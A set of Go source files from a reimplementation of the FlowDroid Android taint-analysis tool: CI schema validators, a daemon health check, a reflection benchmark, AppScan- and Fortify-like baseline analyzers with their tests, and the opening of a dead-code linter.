			path, r.Off.ResolvedSites, r.Off.UnresolvedSites)
	}
	if !r.OffUnchanged {
		fail("%s: reflection-free apps did not report byte-identically across modes", path)
	}
	if r.Note == "" {
		fail("%s: note missing", path)
	}
	fmt.Printf("checkbench: %s OK (recovered %d/%d leaks, %d sites resolved, %d left to the soundness report)\n",
		path, r.RecoveredLeaks, r.InjectedLeaks, r.On.ResolvedSites, r.On.UnresolvedSites)
}

func checkMetrics(path string, data []byte) {
	var r metricsReport
	strict(path, data, &r)
	if r.Profile == "" {
		fail("%s: profile missing", path)
	}
	if r.Apps <= 0 || r.GOMAXPROCS <= 0 || r.NumCPU <= 0 {
		fail("%s: apps/gomaxprocs/num_cpu must be positive (got %d/%d/%d)", path, r.Apps, r.GOMAXPROCS, r.NumCPU)
	}
	if r.OffWallMS <= 0 || r.OnWallMS <= 0 {
		fail("%s: off/on wall times must be positive (got %v/%v)", path, r.OffWallMS, r.OnWallMS)
	}
	if r.OverheadRatio <= 0 {
		fail("%s: overhead_ratio must be positive, got %v", path, r.OverheadRatio)
	}
	if r.DeterministicKeys <= 0 {
		fail("%s: instrumented run produced no deterministic counters — the wiring came apart", path)
	}
	if r.TraceEvents <= 0 || r.TraceEvents%2 != 0 {
		fail("%s: trace_events = %d, want a positive even count (B/E pairs)", path, r.TraceEvents)
	}
	if r.Note == "" {
		fail("%s: note missing — the ratio needs a host interpretation", path)
	}
	fmt.Printf("checkbench: %s OK (overhead %.2fx, %d deterministic counters, %d trace events)\n",
		path, r.OverheadRatio, r.DeterministicKeys, r.TraceEvents)
}
