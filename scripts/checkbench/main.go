// Command checkbench validates the schema of the BENCH_taint.json
// artifact that `make bench-smoke` produces, so CI fails loudly when the
// bench stops persisting its trajectory (the failure mode that motivated
// the artifact) or emits a malformed record.
//
// Usage: go run ./scripts/checkbench BENCH_taint.json
package main

import (
	"bytes"
	"encoding/json"
	"fmt"
	"os"
)

type run struct {
	Workers      int     `json:"workers"`
	WallMS       float64 `json:"wall_ms"`
	Propagations int     `json:"propagations"`
	Leaks        int     `json:"leaks"`
}

type report struct {
	Bench      string  `json:"bench"`
	Profile    string  `json:"profile"`
	Apps       int     `json:"apps"`
	GOMAXPROCS int     `json:"gomaxprocs"`
	NumCPU     int     `json:"num_cpu"`
	Runs       []run   `json:"runs"`
	Speedup    float64 `json:"speedup"`
	Note       string  `json:"note"`
}

func fail(format string, args ...any) {
	fmt.Fprintf(os.Stderr, "checkbench: "+format+"\n", args...)
	os.Exit(1)
}

func main() {
	if len(os.Args) != 2 {
		fail("usage: checkbench <BENCH_taint.json>")
	}
	data, err := os.ReadFile(os.Args[1])
	if err != nil {
		fail("%v", err)
	}
	var r report
	dec := json.NewDecoder(bytes.NewReader(data))
	dec.DisallowUnknownFields()
	if err := dec.Decode(&r); err != nil {
		fail("%s: %v", os.Args[1], err)
	}
	if r.Bench == "" || r.Profile == "" {
		fail("bench/profile missing")
	}
	if r.Apps <= 0 || r.GOMAXPROCS <= 0 || r.NumCPU <= 0 {
		fail("apps/gomaxprocs/num_cpu must be positive (got %d/%d/%d)", r.Apps, r.GOMAXPROCS, r.NumCPU)
	}
	if len(r.Runs) < 2 {
		fail("want at least a sequential and a parallel run, got %d", len(r.Runs))
	}
	workers := map[int]bool{}
	for i, ru := range r.Runs {
		if ru.Workers <= 0 || workers[ru.Workers] {
			fail("run %d: invalid or duplicate worker count %d", i, ru.Workers)
		}
		workers[ru.Workers] = true
		if ru.WallMS <= 0 {
			fail("run %d (workers=%d): wall_ms must be positive", i, ru.Workers)
		}
		if ru.Propagations <= 0 {
			fail("run %d (workers=%d): propagations must be positive", i, ru.Workers)
		}
		if ru.Propagations != r.Runs[0].Propagations || ru.Leaks != r.Runs[0].Leaks {
			fail("run %d (workers=%d): propagations/leaks differ across worker counts (%d/%d vs %d/%d) — the solver lost its schedule-independence",
				i, ru.Workers, ru.Propagations, ru.Leaks, r.Runs[0].Propagations, r.Runs[0].Leaks)
		}
	}
	if !workers[1] {
		fail("no sequential (workers=1) baseline run")
	}
	if r.Speedup <= 0 {
		fail("speedup must be positive, got %v", r.Speedup)
	}
	if r.Speedup < 1.5 && r.Note == "" {
		fail("speedup %.2fx is below 1.5x and no note documents why", r.Speedup)
	}
	fmt.Printf("checkbench: %s OK (%d runs, speedup %.2fx)\n", os.Args[1], len(r.Runs), r.Speedup)
}
