// Command checkhealth is the CI gate for the resident daemon: it
// builds and starts flowdroidd, pushes one generated app through the
// full submit → poll → result flow, checks /healthz and /metrics, then
// sends SIGTERM and asserts a clean graceful drain (exit code 0).
//
// Usage:
//
//	go run ./scripts/checkhealth            # builds cmd/flowdroidd itself
//	go run ./scripts/checkhealth -bin PATH  # uses a prebuilt daemon
//
// Exit 0 when every step passed, 1 with a diagnostic otherwise.
package main

import (
	"bufio"
	"bytes"
	"encoding/json"
	"flag"
	"fmt"
	"io"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"syscall"
	"time"

	"flowdroid/internal/appgen"
	"flowdroid/internal/service"
)

var (
	bin     = flag.String("bin", "", "prebuilt flowdroidd binary (default: go build it)")
	timeout = flag.Duration("timeout", 2*time.Minute, "overall deadline for the health check")
)

func main() {
	flag.Parse()
	if err := run(); err != nil {
		fmt.Fprintln(os.Stderr, "checkhealth:", err)
		os.Exit(1)
	}
	fmt.Println("checkhealth OK")
}

var listenRE = regexp.MustCompile(`listening on http://([^ ]+)`)

func run() error {
	deadline := time.Now().Add(*timeout)

	daemon := *bin
	if daemon == "" {
		dir, err := os.MkdirTemp("", "checkhealth")
		if err != nil {
			return err
		}
		defer os.RemoveAll(dir)
		daemon = filepath.Join(dir, "flowdroidd")
		build := exec.Command("go", "build", "-o", daemon, "./cmd/flowdroidd")
		if out, err := build.CombinedOutput(); err != nil {
			return fmt.Errorf("build flowdroidd: %v\n%s", err, out)
		}
	}

	// Start the daemon on an ephemeral port and scrape the bound
	// address off its stderr banner.
	cmd := exec.Command(daemon, "-addr", "127.0.0.1:0", "-analyses", "2", "-queue", "8", "-drain-timeout", "30s")
	stderr, err := cmd.StderrPipe()
	if err != nil {
		return err
	}
	if err := cmd.Start(); err != nil {
		return fmt.Errorf("start flowdroidd: %v", err)
	}
	defer cmd.Process.Kill() // no-op after a clean Wait

	lines := make(chan string, 64)
	go func() {
		sc := bufio.NewScanner(stderr)
		for sc.Scan() {
			lines <- sc.Text()
		}
		close(lines)
	}()
	var base string
	for base == "" {
		select {
		case line, ok := <-lines:
			if !ok {
				return fmt.Errorf("flowdroidd exited before announcing its address")
			}
			if m := listenRE.FindStringSubmatch(line); m != nil {
				base = "http://" + m[1]
			}
		case <-time.After(time.Until(deadline)):
			return fmt.Errorf("timed out waiting for the listen banner")
		}
	}
	// Keep draining stderr so the daemon never blocks on a full pipe.
	var tail []string
	go func() {
		for line := range lines {
			tail = append(tail, line)
		}
	}()

	// Submit one generated app.
	app := appgen.GenerateCorpus(appgen.Malware, 1, 1)[0]
	body, err := json.Marshal(service.Request{Files: app.Files})
	if err != nil {
		return err
	}
	resp, err := http.Post(base+"/v1/jobs", "application/json", bytes.NewReader(body))
	if err != nil {
		return fmt.Errorf("submit: %v", err)
	}
	var sub service.SubmitResponse
	err = json.NewDecoder(resp.Body).Decode(&sub)
	resp.Body.Close()
	if err != nil || resp.StatusCode != http.StatusAccepted {
		return fmt.Errorf("submit: status %d, decode %v", resp.StatusCode, err)
	}
	fmt.Printf("submitted %s as %s (fingerprint %s)\n", app.Name, sub.ID, sub.Fingerprint)

	// Poll to completion.
	var status service.JobStatus
	for {
		if time.Now().After(deadline) {
			return fmt.Errorf("job %s stuck in state %q", sub.ID, status.State)
		}
		st, body, err := getJSON(base+"/v1/jobs/"+sub.ID, &status)
		if err != nil || st != http.StatusOK {
			return fmt.Errorf("poll: status %d, %v, %s", st, err, body)
		}
		if status.State == "done" || status.State == "failed" {
			break
		}
		time.Sleep(10 * time.Millisecond)
	}
	if status.State != "done" || status.Status != "Complete" {
		return fmt.Errorf("job ended state=%q status=%q error=%q", status.State, status.Status, status.Error)
	}

	// Fetch the result and check the leak count against ground truth.
	var rep service.Report
	if st, body, err := getJSON(base+"/v1/jobs/"+sub.ID+"/result", &rep); err != nil || st != http.StatusOK {
		return fmt.Errorf("result: status %d, %v, %s", st, err, body)
	}
	if len(rep.Leaks) != app.InjectedLeaks {
		return fmt.Errorf("result reports %d leaks, ground truth %d", len(rep.Leaks), app.InjectedLeaks)
	}
	fmt.Printf("result: %s, %d leak(s) (matches ground truth)\n", rep.Status, len(rep.Leaks))

	// Health and metrics surfaces.
	var health struct {
		Status string `json:"status"`
		service.Stats
	}
	if st, body, err := getJSON(base+"/healthz", &health); err != nil || st != http.StatusOK {
		return fmt.Errorf("healthz: status %d, %v, %s", st, err, body)
	}
	if health.Status != "ok" {
		return fmt.Errorf("healthz status %q, want ok", health.Status)
	}
	var snap map[string]json.RawMessage
	if st, body, err := getJSON(base+"/metrics", &snap); err != nil || st != http.StatusOK {
		return fmt.Errorf("metrics: status %d, %v, %s", st, err, body)
	}
	for _, key := range []string{"deterministic", "schedule", "timings"} {
		if _, ok := snap[key]; !ok {
			return fmt.Errorf("metrics snapshot misses section %q", key)
		}
	}
	fmt.Println("healthz ok, metrics snapshot well-formed")

	// SIGTERM: the daemon must drain and exit 0 on its own.
	if err := cmd.Process.Signal(syscall.SIGTERM); err != nil {
		return fmt.Errorf("signal: %v", err)
	}
	waited := make(chan error, 1)
	go func() { waited <- cmd.Wait() }()
	select {
	case err := <-waited:
		if err != nil {
			return fmt.Errorf("flowdroidd exited uncleanly after SIGTERM: %v\nstderr:\n%s", err, strings.Join(tail, "\n"))
		}
	case <-time.After(time.Until(deadline)):
		cmd.Process.Kill()
		return fmt.Errorf("flowdroidd did not exit within the deadline after SIGTERM\nstderr:\n%s", strings.Join(tail, "\n"))
	}
	fmt.Println("SIGTERM drained cleanly (exit 0)")
	return nil
}

// getJSON fetches url and decodes the body into v, returning the status
// code and the raw body for diagnostics.
func getJSON(url string, v any) (int, []byte, error) {
	resp, err := http.Get(url)
	if err != nil {
		return 0, nil, err
	}
	defer resp.Body.Close()
	body, err := io.ReadAll(resp.Body)
	if err != nil {
		return resp.StatusCode, nil, err
	}
	return resp.StatusCode, body, json.Unmarshal(body, v)
}
