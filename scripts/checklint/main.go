// Command checklint validates the JSON envelope `irlint -json` emits,
// so CI fails loudly when the verifier's machine-readable output drifts
// from the documented schema (DESIGN.md §5e) that downstream tooling
// parses:
//
//	{"packages": [{"package": ..., "diagnostics": [...],
//	               "errors": N, "warnings": M}, ...],
//	 "errors": N, "warnings": M}
//
// Beyond shape, it cross-checks the counts: each package's errors and
// warnings must equal what its diagnostics list contains, and the
// top-level totals must be the sum over packages. Every diagnostic
// needs a stable dotted code, a known severity, a message and a
// position.
//
// Usage: go run ./scripts/checklint report.json [more.json ...]
package main

import (
	"bytes"
	"encoding/json"
	"fmt"
	"os"
	"strings"
)

type diagnostic struct {
	Code     string `json:"code"`
	Severity string `json:"severity"`
	File     string `json:"file"`
	Line     int    `json:"line"`
	Method   string `json:"method"`
	Message  string `json:"message"`
}

type pkgReport struct {
	Package     string       `json:"package"`
	Diagnostics []diagnostic `json:"diagnostics"`
	Errors      int          `json:"errors"`
	Warnings    int          `json:"warnings"`
}

type report struct {
	Packages []pkgReport `json:"packages"`
	Errors   int         `json:"errors"`
	Warnings int         `json:"warnings"`
}

func main() {
	if len(os.Args) < 2 {
		fail("usage: checklint report.json [more.json ...]")
	}
	for _, path := range os.Args[1:] {
		if err := check(path); err != nil {
			fail("%s: %v", path, err)
		}
		fmt.Printf("checklint: %s OK\n", path)
	}
}

func check(path string) error {
	data, err := os.ReadFile(path)
	if err != nil {
		return err
	}
	dec := json.NewDecoder(bytes.NewReader(data))
	dec.DisallowUnknownFields()
	var rep report
	if err := dec.Decode(&rep); err != nil {
		return fmt.Errorf("envelope does not match schema: %w", err)
	}
	if rep.Packages == nil {
		return fmt.Errorf(`"packages" missing or null`)
	}
	var errs, warns int
	seen := make(map[string]bool)
	for _, p := range rep.Packages {
		if p.Package == "" {
			return fmt.Errorf("package entry without a name")
		}
		if seen[p.Package] {
			return fmt.Errorf("duplicate package %q", p.Package)
		}
		seen[p.Package] = true
		if p.Diagnostics == nil {
			return fmt.Errorf("%s: diagnostics must be [], not null", p.Package)
		}
		var pe, pw int
		for _, d := range p.Diagnostics {
			if err := checkDiagnostic(d); err != nil {
				return fmt.Errorf("%s: %v", p.Package, err)
			}
			switch d.Severity {
			case "error":
				pe++
			case "warning":
				pw++
			}
		}
		if pe != p.Errors || pw != p.Warnings {
			return fmt.Errorf("%s: counts %d/%d disagree with diagnostics %d/%d",
				p.Package, p.Errors, p.Warnings, pe, pw)
		}
		errs += pe
		warns += pw
	}
	if errs != rep.Errors || warns != rep.Warnings {
		return fmt.Errorf("totals %d/%d disagree with package sums %d/%d",
			rep.Errors, rep.Warnings, errs, warns)
	}
	return nil
}

func checkDiagnostic(d diagnostic) error {
	if d.Code == "" || !strings.Contains(d.Code, ".") {
		return fmt.Errorf("diagnostic code %q is not a dotted stable code", d.Code)
	}
	if d.Severity != "error" && d.Severity != "warning" {
		return fmt.Errorf("diagnostic %s has unknown severity %q", d.Code, d.Severity)
	}
	if d.Message == "" {
		return fmt.Errorf("diagnostic %s has no message", d.Code)
	}
	if d.File == "" {
		return fmt.Errorf("diagnostic %s has no file position", d.Code)
	}
	if d.Line < 0 {
		return fmt.Errorf("diagnostic %s has negative line %d", d.Code, d.Line)
	}
	return nil
}

func fail(format string, args ...any) {
	fmt.Fprintf(os.Stderr, "checklint: "+format+"\n", args...)
	os.Exit(1)
}
