package flowdroid_test

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"os"
	"runtime"
	"testing"
	"time"

	"flowdroid/internal/appgen"
	"flowdroid/internal/core"
)

// BenchmarkReflectionTaint quantifies what reflection resolution buys and
// what it costs: the reflection-heavy corpus analyzed with the
// constant-propagation pass on and off. The contracts are asserted
// in-line — on-mode recovers exactly the injected reflective leaks,
// off-mode misses exactly those and nothing else, and on apps with no
// reflective surface the two modes produce byte-identical canonical
// reports (the pass is invisible where it has nothing to do). The
// trajectory persists as BENCH_reflect.json for scripts/checkbench.

// benchReflectApps/benchReflectSeed pin a corpus that contains both
// resolvable reflective chains and genuinely dynamic ones (asserted
// below), so the soundness-report path is exercised, not just the
// happy path.
const (
	benchReflectApps = 10
	benchReflectSeed = 11
)

type benchReflectMode struct {
	Reflection      bool    `json:"reflection"`
	WallMS          float64 `json:"wall_ms"`
	Leaks           int     `json:"leaks"`
	ResolvedSites   int     `json:"resolved_sites"`
	UnresolvedSites int     `json:"unresolved_sites"`
}

type benchReflectReport struct {
	Bench           string           `json:"bench"`
	Profile         string           `json:"profile"`
	Apps            int              `json:"apps"`
	GOMAXPROCS      int              `json:"gomaxprocs"`
	NumCPU          int              `json:"num_cpu"`
	InjectedLeaks   int              `json:"injected_leaks"`
	ReflectiveLeaks int              `json:"reflective_leaks"`
	DynamicChains   int              `json:"dynamic_chains"`
	On              benchReflectMode `json:"on"`
	Off             benchReflectMode `json:"off"`
	// RecoveredLeaks is on - off: the flows only reflection resolution
	// sees. The in-line assertions pin it to ReflectiveLeaks exactly.
	RecoveredLeaks int `json:"recovered_leaks"`
	// OffUnchanged records that every reflection-free app produced a
	// byte-identical canonical report in both modes.
	OffUnchanged bool   `json:"off_reports_unchanged"`
	Note         string `json:"note"`
}

func BenchmarkReflectionTaint(b *testing.B) {
	apps := appgen.GenerateCorpus(appgen.Reflection, benchReflectApps, benchReflectSeed)
	var injected, reflective, dynamic int
	for _, app := range apps {
		injected += app.InjectedLeaks
		reflective += app.ReflectiveLeaks
		dynamic += app.DynamicReflectiveChains
	}
	if reflective == 0 || dynamic == 0 {
		b.Fatalf("corpus (n=%d, seed=%d) has %d reflective leaks and %d dynamic chains; need both to exercise resolution and the soundness report",
			benchReflectApps, benchReflectSeed, reflective, dynamic)
	}

	// analyzeAll runs the corpus in one reflection mode, returning the
	// aggregate and the per-app canonical reports.
	analyzeAll := func(reflect bool) (benchReflectMode, [][]byte) {
		mode := benchReflectMode{Reflection: reflect}
		reports := make([][]byte, 0, len(apps))
		start := time.Now()
		for _, app := range apps {
			opts := core.DefaultOptions()
			opts.ResolveReflection = reflect
			res, err := core.AnalyzeFiles(context.Background(), app.Files, opts)
			if err != nil {
				b.Fatal(err)
			}
			if res.Status != core.Complete {
				b.Fatalf("reflection=%v: app %s status %v", reflect, app.Name, res.Status)
			}
			mode.Leaks += len(res.Taint.DistinctSourceSinkPairs())
			mode.ResolvedSites += res.Counters.ReflectionResolved
			mode.UnresolvedSites += res.Counters.ReflectionUnresolved
			if !reflect && res.Soundness != nil {
				b.Fatalf("app %s: reflection off produced a soundness report", app.Name)
			}
			js, err := res.Taint.CanonicalJSON()
			if err != nil {
				b.Fatal(err)
			}
			reports = append(reports, js)
		}
		mode.WallMS = float64(time.Since(start).Microseconds()) / 1000
		return mode, reports
	}

	var on, off benchReflectMode
	offUnchanged := true
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		var onReps, offReps [][]byte
		on, onReps = analyzeAll(true)
		off, offReps = analyzeAll(false)
		if on.Leaks != injected {
			b.Fatalf("reflection on found %d leaks, injected %d", on.Leaks, injected)
		}
		if off.Leaks != injected-reflective {
			b.Fatalf("reflection off found %d leaks, want %d (injected %d minus %d reflective)",
				off.Leaks, injected-reflective, injected, reflective)
		}
		if on.ResolvedSites == 0 || on.UnresolvedSites == 0 {
			b.Fatalf("reflection on resolved %d sites with %d unresolved; the corpus must exercise both",
				on.ResolvedSites, on.UnresolvedSites)
		}
		// The pass must be invisible where it has nothing to do: apps
		// with no reflective surface report byte-identically in both
		// modes.
		for j, app := range apps {
			if app.ReflectiveLeaks == 0 && app.DynamicReflectiveChains == 0 {
				if !bytes.Equal(onReps[j], offReps[j]) {
					offUnchanged = false
					b.Fatalf("app %s has no reflective surface but its reports differ across modes", app.Name)
				}
			}
		}
	}
	b.StopTimer()

	b.ReportMetric(float64(on.Leaks-off.Leaks), "recovered-leaks")
	b.ReportMetric(float64(on.ResolvedSites), "resolved-sites")

	rep := benchReflectReport{
		Bench:           "BenchmarkReflectionTaint",
		Profile:         appgen.Reflection.Name,
		Apps:            benchReflectApps,
		GOMAXPROCS:      runtime.GOMAXPROCS(0),
		NumCPU:          runtime.NumCPU(),
		InjectedLeaks:   injected,
		ReflectiveLeaks: reflective,
		DynamicChains:   dynamic,
		On:              on,
		Off:             off,
		RecoveredLeaks:  on.Leaks - off.Leaks,
		OffUnchanged:    offUnchanged,
		Note: fmt.Sprintf(
			"resolving reflection recovered %d of %d injected leaks invisible to the reflection-blind analysis (%d sites resolved into call edges); %d genuinely dynamic chains (%d opaque sites) are accounted for in the soundness report rather than silently dropped",
			on.Leaks-off.Leaks, injected, on.ResolvedSites, dynamic, on.UnresolvedSites),
	}
	out, err := json.MarshalIndent(rep, "", "  ")
	if err != nil {
		b.Fatal(err)
	}
	if err := os.WriteFile("BENCH_reflect.json", append(out, '\n'), 0o644); err != nil {
		b.Fatal(err)
	}
}
