// Package baseline implements the comparison analyzers of Table 1: two
// coarse taint analyzers modeling the documented failure modes of IBM
// AppScan Source and HP Fortify SCA, plus the ablation configurations the
// benchmark harness sweeps over.
//
// The commercial tools themselves are proprietary; per the paper's
// diagnosis their weaknesses are (a) a missing or single-pass lifecycle
// model, (b) poor callback handling beyond XML-declared handlers, and
// (c) ignoring the manifest's enabled flags — while they pattern-match
// simple cases like constant array indices that FlowDroid's conservative
// array model does not. The analyzers below implement exactly those
// behaviours on top of the shared engine, so the comparison isolates the
// modeling differences rather than implementation quality.
package baseline

import (
	"context"
	"fmt"

	"flowdroid/internal/core"
	"flowdroid/internal/droidbench"
	"flowdroid/internal/lifecycle"
)

// AppScanOptions is the AppScan-Source-like configuration: no lifecycle
// model (component creation only), XML callbacks only, disabled
// components analyzed anyway, constant array indices distinguished.
func AppScanOptions() core.Options {
	opts := core.DefaultOptions()
	opts.Lifecycle = lifecycle.Options{
		Mode:                  lifecycle.CreateOnly,
		ModelLifecycle:        true, // Mode carries the semantics
		InvokeCallbacks:       true,
		RunStaticInitializers: true,
		XMLCallbacksOnly:      true,
		IncludeDisabled:       true,
	}
	opts.Taint.ArrayIndexSensitive = true
	return opts
}

// FortifyOptions is the Fortify-SCA-like configuration: a single-pass
// (flat) lifecycle in canonical order, XML callbacks only, disabled
// components analyzed anyway, constant array indices distinguished.
func FortifyOptions() core.Options {
	opts := AppScanOptions()
	opts.Lifecycle.Mode = lifecycle.FlatLifecycle
	return opts
}

// analyzer wraps a core configuration into a DroidBench analyzer. The
// run is isolated: a panicking configuration yields a per-case error,
// never a crashed sweep.
func analyzer(name string, opts func() core.Options) droidbench.Analyzer {
	return droidbench.Analyzer{
		Name: name,
		Run:  func(files map[string]string) (int, error) { return safeAnalyze(files, opts()) },
	}
}

// safeAnalyze runs one app through the pipeline, converting panics that
// escape the core stage guards into errors so ablation sweeps and tool
// comparisons always finish.
func safeAnalyze(files map[string]string, opts core.Options) (found int, err error) {
	defer func() {
		if r := recover(); r != nil {
			found, err = 0, fmt.Errorf("baseline: panic: %v", r)
		}
	}()
	res, err := core.AnalyzeFiles(context.Background(), files, opts)
	if err != nil {
		return 0, err
	}
	return len(res.Leaks()), nil
}

// AppScanLike is the AppScan Source stand-in.
func AppScanLike() droidbench.Analyzer { return analyzer("AppScan", AppScanOptions) }

// FortifyLike is the Fortify SCA stand-in.
func FortifyLike() droidbench.Analyzer { return analyzer("Fortify", FortifyOptions) }

// Ablation identifies one engine feature switched off relative to the
// full FlowDroid configuration.
type Ablation struct {
	Name   string
	Mutate func(*core.Options)
}

// Ablations enumerates the design-choice ablations DESIGN.md calls out,
// swept by the benchmark harness (experiment E8).
func Ablations() []Ablation {
	return []Ablation{
		{"full", func(o *core.Options) {}},
		{"no-alias-analysis", func(o *core.Options) { o.Taint.EnableAliasing = false }},
		{"no-activation (Andromeda)", func(o *core.Options) { o.Taint.EnableActivation = false }},
		{"no-context-injection", func(o *core.Options) { o.Taint.InjectContext = false }},
		{"field-insensitive", func(o *core.Options) { o.Taint.FieldSensitive = false }},
		{"flow-insensitive-locals", func(o *core.Options) { o.Taint.FlowSensitive = false }},
		{"no-lifecycle", func(o *core.Options) { o.Lifecycle.Mode = lifecycle.CreateOnly }},
		{"flat-lifecycle", func(o *core.Options) { o.Lifecycle.Mode = lifecycle.FlatLifecycle }},
		{"no-taint-wrapper", func(o *core.Options) { o.Taint.Wrapper = nil }},
		{"cha-callgraph", func(o *core.Options) { o.UseCHA = true }},
	}
}

// AblationAnalyzer builds a DroidBench analyzer for one ablation.
func AblationAnalyzer(a Ablation) droidbench.Analyzer {
	return droidbench.Analyzer{
		Name: a.Name,
		Run: func(files map[string]string) (int, error) {
			opts := core.DefaultOptions()
			a.Mutate(&opts)
			return safeAnalyze(files, opts)
		},
	}
}

// APLengthAnalyzer builds an analyzer with a fixed maximal access-path
// length, for the E8 precision/performance sweep.
func APLengthAnalyzer(k int) droidbench.Analyzer {
	return droidbench.Analyzer{
		Name: "ap-len-" + itoa(k),
		Run: func(files map[string]string) (int, error) {
			opts := core.DefaultOptions()
			opts.Taint.APLength = k
			return safeAnalyze(files, opts)
		},
	}
}

func itoa(n int) string {
	if n == 0 {
		return "0"
	}
	neg := n < 0
	if neg {
		n = -n
	}
	var b [12]byte
	i := len(b)
	for n > 0 {
		i--
		b[i] = byte('0' + n%10)
		n /= 10
	}
	if neg {
		i--
		b[i] = '-'
	}
	return string(b[i:])
}

// Table1 runs the full three-tool comparison and renders it in the
// paper's format.
func Table1() string {
	analyzers := []droidbench.Analyzer{AppScanLike(), FortifyLike(), droidbench.FlowDroid()}
	names := make([]string, len(analyzers))
	results := make([][]droidbench.CaseResult, len(analyzers))
	for i, a := range analyzers {
		names[i] = a.Name
		results[i] = droidbench.RunSuite(a)
	}
	return droidbench.RenderTable(names, results)
}
