package baseline

import (
	"strings"
	"testing"

	"flowdroid/internal/droidbench"
)

// TestAppScanLikeShape checks that the AppScan stand-in lands on the
// paper's Table 1 shape: about half the leaks found (recall ≈50%),
// precision in the mid-70s, strictly worse than FlowDroid on both counts
// of the F-measure.
func TestAppScanLikeShape(t *testing.T) {
	s := droidbench.Score(droidbench.RunSuite(AppScanLike()))
	t.Logf("AppScan-like: TP=%d FP=%d missed=%d p=%.2f r=%.2f f=%.2f",
		s.TP, s.FP, s.Missed, s.Precision, s.Recall, s.F)
	if s.Recall < 0.40 || s.Recall > 0.60 {
		t.Errorf("recall = %.2f, want ≈0.50 (paper)", s.Recall)
	}
	if s.Precision < 0.65 || s.Precision > 0.85 {
		t.Errorf("precision = %.2f, want ≈0.74 (paper)", s.Precision)
	}
}

// TestFortifyLikeShape: recall ≈61%, precision ≈81%, between AppScan and
// FlowDroid.
func TestFortifyLikeShape(t *testing.T) {
	s := droidbench.Score(droidbench.RunSuite(FortifyLike()))
	t.Logf("Fortify-like: TP=%d FP=%d missed=%d p=%.2f r=%.2f f=%.2f",
		s.TP, s.FP, s.Missed, s.Precision, s.Recall, s.F)
	if s.Recall < 0.50 || s.Recall > 0.70 {
		t.Errorf("recall = %.2f, want ≈0.61 (paper)", s.Recall)
	}
	if s.Precision < 0.70 || s.Precision > 0.90 {
		t.Errorf("precision = %.2f, want ≈0.81 (paper)", s.Precision)
	}
}

// TestOrdering reproduces the headline comparison: FlowDroid beats both
// commercial stand-ins on recall and F-measure, and Fortify beats AppScan.
func TestOrdering(t *testing.T) {
	app := droidbench.Score(droidbench.RunSuite(AppScanLike()))
	fort := droidbench.Score(droidbench.RunSuite(FortifyLike()))
	fd := droidbench.Score(droidbench.RunSuite(droidbench.FlowDroid()))
	if !(fd.Recall > fort.Recall && fort.Recall > app.Recall) {
		t.Errorf("recall ordering broken: fd=%.2f fortify=%.2f appscan=%.2f",
			fd.Recall, fort.Recall, app.Recall)
	}
	if !(fd.F > fort.F && fort.F > app.F) {
		t.Errorf("F-measure ordering broken: fd=%.2f fortify=%.2f appscan=%.2f",
			fd.F, fort.F, app.F)
	}
	if fd.Precision < fort.Precision {
		t.Errorf("FlowDroid precision %.2f should be at least Fortify's %.2f",
			fd.Precision, fort.Precision)
	}
}

// TestFortifyLifecycleByChance reproduces the paper's observation that the
// flat-lifecycle tool finds 4 of the 6 lifecycle leaks: those whose store
// precedes the read in canonical order.
func TestFortifyLifecycleByChance(t *testing.T) {
	results := droidbench.RunSuite(FortifyLike())
	found := map[string]int{}
	for _, r := range results {
		if r.Case.Category == "Lifecycle" {
			found[r.Case.Name] = r.TP
		}
	}
	wantFound := map[string]int{
		"BroadcastReceiverLifecycle1": 1,
		"ActivityLifecycle1":          1, // onCreate -> onDestroy: in order
		"ActivityLifecycle2":          0, // restore before save: missed
		"ActivityLifecycle3":          1, // onStop -> onRestart: in order
		"ActivityLifecycle4":          0, // resume before pause: missed
		"ServiceLifecycle1":           1,
	}
	for name, want := range wantFound {
		if found[name] != want {
			t.Errorf("Fortify-like on %s: TP=%d, want %d", name, found[name], want)
		}
	}
}

func TestInactiveActivityFalsePositive(t *testing.T) {
	c, ok := droidbench.CaseByName("InactiveActivity")
	if !ok {
		t.Fatal("case missing")
	}
	for _, a := range []droidbench.Analyzer{AppScanLike(), FortifyLike()} {
		found, err := a.Run(c.Files)
		if err != nil {
			t.Fatalf("%s: %v", a.Name, err)
		}
		if found != 1 {
			t.Errorf("%s should report the disabled activity's leak (manifest ignored), got %d", a.Name, found)
		}
	}
}

func TestArrayIndexPatternMatching(t *testing.T) {
	// The baselines distinguish constant indices (no FP on ArrayAccess1)
	// but not computed ones (FP on ArrayAccess2 remains).
	c1, _ := droidbench.CaseByName("ArrayAccess1")
	c2, _ := droidbench.CaseByName("ArrayAccess2")
	for _, a := range []droidbench.Analyzer{AppScanLike(), FortifyLike()} {
		n1, err := a.Run(c1.Files)
		if err != nil {
			t.Fatal(err)
		}
		if n1 != 0 {
			t.Errorf("%s: ArrayAccess1 should be clean with index matching, got %d", a.Name, n1)
		}
		n2, err := a.Run(c2.Files)
		if err != nil {
			t.Fatal(err)
		}
		if n2 != 1 {
			t.Errorf("%s: ArrayAccess2 should still be a false positive, got %d", a.Name, n2)
		}
	}
}

func TestAblationsRun(t *testing.T) {
	if testing.Short() {
		t.Skip("ablation sweep is slow")
	}
	direct, _ := droidbench.CaseByName("DirectLeak1")
	for _, ab := range Ablations() {
		a := AblationAnalyzer(ab)
		n, err := a.Run(direct.Files)
		if err != nil {
			t.Errorf("%s: %v", ab.Name, err)
			continue
		}
		if n != 1 {
			t.Errorf("%s: DirectLeak1 found %d leaks, want 1 (every ablation keeps trivial flows)", ab.Name, n)
		}
	}
}

func TestTable1Renders(t *testing.T) {
	if testing.Short() {
		t.Skip("full three-tool table is slow")
	}
	out := Table1()
	for _, want := range []string{"AppScan", "Fortify", "FlowDroid", "Precision", "F-measure"} {
		if !strings.Contains(out, want) {
			t.Errorf("Table1 output missing %q", want)
		}
	}
}
