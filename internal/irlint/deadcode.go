package irlint

import "flowdroid/internal/ir"

func init() {
	Register(unreachableAnalyzer)
	Register(missingReturnAnalyzer)
}

// unreachableAnalyzer reports statements no CFG path from the method
// entry reaches. Dead code is legal but suspicious — it usually means a
// goto or return was misplaced — and the solvers silently never visit
// it, so a source or sink there would be invisibly ignored. Only the
// first statement of each contiguous dead region is reported.
var unreachableAnalyzer = &Analyzer{
	Name: "unreachable",
	Doc:  "statements unreachable from the method entry",
	Run:  runUnreachable,
}

func runUnreachable(pass *Pass) {
	eachBodyMethod(pass.Prog, func(c *ir.Class, m *ir.Method) {
		reach := reachable(m)
		for i, s := range m.Body() {
